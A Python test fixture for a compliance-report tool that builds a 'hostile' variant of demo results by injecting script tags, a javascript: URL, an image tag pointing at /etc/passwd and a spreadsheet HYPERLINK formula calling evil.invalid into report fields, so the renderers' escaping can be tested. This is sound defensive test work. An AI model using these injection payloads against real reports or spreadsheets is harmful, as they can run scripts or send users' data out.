"""Results documents for the report tests: the golden demo, and a hostile variant.

The hostile variant keeps the demo's shape but puts markup, file URLs and spreadsheet formulas in
names, titles and evidence, adds a waived control and finding (as the waivers helper writes
them), a status no renderer knows yet, a Kubernetes manifest subject with file and line, and
extra fields, so every renderer is checked against what later results may hold.
"""

from __future__ import annotations

import copy
import json
import os

GOLDEN = os.path.join(os.path.dirname(os.path.abspath(__file__)), "golden", "demo-results.json")
SCRIPT = "<script>alert('x')</script>"
IMG = "<img src=file:///etc/passwd>"
FORMULA = '=HYPERLINK("http://evil.invalid/?q="&A1,"click")'
URL = "javascript:alert(1)"


def demo_results() -> dict:
    with open(GOLDEN, encoding="utf-8") as fh:
        return json.load(fh)


def hostile_results(schema_valid: bool = False) -> dict:
    """The hostile variant; ``schema_valid`` leaves out what today's schema refuses (unknown status, framework)."""
    doc = copy.deepcopy(demo_results())
    by_id = {c["id"]: c for c in doc["controls"]}
    c55 = by_id["5.5"]
    c55["title"] = f"Privileged {SCRIPT} containers"
    c55["remediation"] = f"Run {IMG} then {URL}"
    bad = next(f for f in c55["findings"] if f["status"] == "fail")
    bad["subject"]["name"] = FORMULA
    bad["observed"] = IMG
    bad["where"] = SCRIPT
    c55["references"].append(URL)
    # a Kubernetes manifest finding: subjects may carry file and line
    c56 = by_id["5.6"]
    manifest = next(f for f in c56["findings"] if f["status"] == "fail")
    manifest["subject"].update({"type": "pod", "name": "shop/web", "file": "deploy/shop.yaml", "line": 12})
    # waived (as the waivers helper writes it): control status, finding flag and waiver object
    c54 = by_id["5.4"]
    c54["status"] = "waived"
    for f in c54["findings"]:
        if f["status"] == "fail":
            f["waived"] = True
            f["waiver"] = {"index": 1, "control": "5.4", "reason": f"accepted {SCRIPT}", "owner": "=1+1",
                          "expires": "2099-01-01"}
    doc["summary"]["counts"]["waived"] = 1
    by_id["5.7"]["ticket"] = {"id": IMG}
    doc["packs"][0]["title"] = f"CIS {SCRIPT} Docker"
    doc["evidence"]["host"] = f"host-{IMG}"
    if not schema_valid:
        # a status and a framework shape nobody knows yet must render, not crash
        by_id["5.7"]["status"] = "quarantined"
        doc["frameworks"] = [{"id": "nist-800-190", "title": f"NIST {SCRIPT}", "score": 50.0}]
        doc["summary"]["counts"]["quarantined"] = 1
    return doc
